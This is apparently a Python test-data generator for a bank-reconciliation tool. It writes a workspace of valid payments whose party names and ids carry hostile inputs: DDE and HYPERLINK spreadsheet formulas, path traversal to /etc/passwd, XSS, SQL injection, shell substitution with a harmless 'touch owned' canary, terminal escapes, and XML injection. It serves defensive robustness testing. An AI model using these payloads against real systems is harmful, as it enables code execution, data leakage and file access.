#!/usr/bin/env python3
"""Writes samples/hostile: a small workspace whose data is valid and means harm.

    python3 samples/generate_hostile.py [--out DIR]

Every party pays in 10.00 and a few cents by bank transfer. All of it loads and matches; what counts is
that the names come out harmless everywhere.
"""

import argparse
import datetime as dt
import os
import shutil

from basics import money
from month import BankEntry
from writers import LEDGER_COLUMNS, PARTY_COLUMNS, camt053, table

IBAN = "BE71096123456769"
OPENING = 1_000_00

# party id, name, what it tries.
PARTIES = [
    ("H-01", "=cmd|' /C calc'!A0", "a formula that starts a program"),
    ("H-02", "@SUM(1+9)*cmd|' /C calc'!A0", "the same behind an at sign"),
    ("H-03", "+32470123456", "a telephone number that a spreadsheet adds up"),
    ("H-04", "-2+3+cmd|' /C calc'!A0", "the same behind a minus"),
    ("H-05", "\t=1+1", "a formula behind a tab"),
    ("H-06", "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")", "a formula that sends data away"),
    ("../../etc/passwd", "../../etc/passwd", "a party id that climbs out of the folder"),
    ("..\\..\\windows\\win.ini", "..\\..\\windows\\win.ini", "the same for another system"),
    ("/etc/shadow", "/etc/shadow", "an absolute path"),
    ("CON", "CON", "a device name"),
    ("..", "..", "the folder above"),
    ("a/b", "Slash", "ids that a careless replacement makes equal: a/b"),
    ("a_b", "Underscore", "a_b"),
    ("a:b", "Colon", "a:b"),
    ("h-case", "Lower", "ids that only differ in case: h-case"),
    ("H-CASE", "Upper", "H-CASE"),
    ("H-17", "\x1b[2J\x1b[1;31mURGENT\x1b[0m\x07", "escape sequences that clear a terminal"),
    ("H-18", "Jan \u202egnp.exe", "a mark that turns the direction of the text round"),
    ("H-19", "Pe\u200bet\u00aders", "characters of no width"),
    ("H-20", "<script>alert('x')</script>", "a script for the page"),
    ("H-21", "\"><img src=x onerror=alert(1)>", "a way out of an attribute"),
    ("H-22", "Robert'); DROP TABLE posting;--", "a statement for the database"),
    ("H-23", "%s%s%n%08x", "a format string"),
    ("H-24", "$(touch owned) `touch owned`; touch owned", "a command for a shell"),
    ("H-25", "Two\nlines", "a line feed inside a field"),
    ("H-26", "\"Quoted\", and; separated", "the separators themselves"),
    ("H-27", "Zoë", "the same name composed"),
    ("H-28", "Zoe\u0308", "and decomposed"),
    ("H-29", "NULL", "a word that some take for nothing"),
    ("H-30", "  blanks  ", "blanks around a name"),
    ("H-31", "007", "a name that looks like a number"),
    ("H-32", "1E5", "one that looks like a larger number"),
    ("H-33", "2026-02-29", "one that looks like a date"),
    ("H-34", "\U0001f469\u200d\U0001f469\u200d\U0001f467 Familie", "one character of five"),
    ("H-35", "\u05de\u05e9\u05d4 \u05db\u05d4\u05df", "a name written from the right"),
    ("H-36", "\u738b\u5c0f\u660e", "a name that the usual fonts cannot show"),
    ("H-37", "Long " + "name " * 400, "2,000 letters"),
    ("H-38", "; account  bank:main  1000000.00", "a line for the journal"),
    ("H-39", "]]></Nm><Amt Ccy=\"EUR\">999999.00</Amt>", "elements for the statement"),
]

CONFIGURATION = """\
# Valid data that means harm; see README.md. One account, everything matches.

[book]
name = "=HYPERLINK(\\"https://example.org\\")"
time_zone = "Europe/Brussels"
calendar = "target2"

[paths]
inbox = "inbox"

[ledger]
expected = true

[ledger.types]
topup_bank = "bank:main"
event_entry = "internal:parties"
opening_balance = "equity:opening"

[ledger.accounts]
acc_bank_main = "bank:main"

[[source]]
name = "bank-eur"
kind = "bank"
account = "bank:main"
currency = "EUR"
external = "{iban}"
format = "camt.053"
expected = "none"

[matching]
window_business_days = 3
timing_business_days = 5

[settlement]
fee_percent = "2.5"
float = {{ EUR = "100.00" }}
"""

README = """\
# Valid data that means harm

A small workspace of its own. Every party pays in ten euros and some cents on 1 October 2026;
everything loads, everything matches, the verdict of 2026-10 is `reconciled`. What counts is what
comes out: no table, workbook, page, journal, PDF, file name, log line or terminal may do what the
data says. Two ids never share a file; no file is written outside the pack.

If a file called `owned` appears anywhere, something was run that should only have been read.

Control characters cannot stand in XML, so the bank's file has those names without them, as a bank would.

| Party id | Name | What it tries |
|---|---|---|
"""


def shown(text):
    """A name as it may stand in a page: nothing invisible, nothing that Markdown reads."""
    text = text if len(text) < 60 else text[:24] + "…"
    safe = "".join(c if c.isprintable() and ord(c) < 0x2000 or 0x4E00 <= ord(c) < 0xA000
                   else "\\u{%x}" % ord(c) for c in text)
    return "`` %s ``" % safe.replace("|", "\\|")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    here = os.path.dirname(os.path.abspath(__file__))
    parser.add_argument("--out", default=os.path.join(here, "hostile"))
    out = parser.parse_args().out
    shutil.rmtree(out, ignore_errors=True)
    parties, ledger, entries, page = [], [], [], README
    club = {"party_id": "H-ORG", "kind": "organisation", "name": "=1+1|club", "account_id": "org/1"}
    day = dt.date(2026, 10, 1)
    ledger.append({"id": "=0", "booked_at": "2026-09-30T20:00:00Z", "account_id": "acc_bank_main",
                   "type": "opening_balance", "amount": money(-OPENING), "currency": "EUR",
                   "description": "=opening"})
    for number, (party, name, attempt) in enumerate(PARTIES, 1):
        amount = 10_00 + number
        reference = "HST-%04d" % number
        account = "acc/../%02d" % number
        parties.append({"party_id": party, "kind": "member", "name": name, "account_id": account,
                        "email": "=h%02d@example.org" % number})
        ledger.append({
            "id": "=L%02d" % number, "booked_at": "2026-10-01T08:%02d:00Z" % number,
            "account_id": account, "member_id": party, "type": "topup_bank",
            "amount": money(amount), "currency": "EUR", "reference": reference,
            "description": name, "counterparty": name})
        readable = "".join(c for c in name if ord(c) >= 0x20)[:140].strip()
        entries.append(BankEntry(day, amount, "EUR", "PMNT-RCDT-ESCT", name=readable,
                                 end_to_end=reference, text=readable, id="=B%02d" % number))
        page += "| %s | %s | %s |\n" % (shown(party), shown(name), attempt)
    for n, (account, party, amount) in enumerate([("acc/../01", "H-01", "-1.00"),
                                                  ("org/1", "", "1.00")]):
        ledger.append({"id": "=E%d" % n, "booked_at": "2026-10-01T18:00:00Z",
                       "account_id": account, "member_id": party,
                       "org_id": "" if party else "H-ORG", "type": "event_entry",
                       "amount": amount, "currency": "EUR", "reference": "=EVT",
                       "description": "@event", "counterparty": "+club"})
    total = sum(entry.amount for entry in entries)
    statement = {"number": 1, "day": day, "created": "2026-10-02T03:15:00+02:00",
                 "opening": OPENING, "closing": OPENING + total, "entries": entries}
    account = {"iban": IBAN, "currency": "EUR", "owner": "=1+1|owner"}
    files = [
        ("tieout.toml", CONFIGURATION.format(iban=IBAN).encode("utf-8")),
        ("README.md", page.encode("utf-8")),
        ("inbox/parties.csv", table(PARTY_COLUMNS, parties + [club])),
        ("inbox/hostile.ledger.csv", table(LEDGER_COLUMNS, ledger)),
        ("inbox/=statement; $(touch owned).camt053.xml",
         camt053(8, "HOSTILE-1", "2026-10-02T03:15:00+02:00", account, [statement])),
    ]
    for name, data in files:
        path = os.path.join(out, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(data)
    print("%d parties, %s EUR" % (len(parties) + 1, money(total)))


if __name__ == "__main__":
    main()
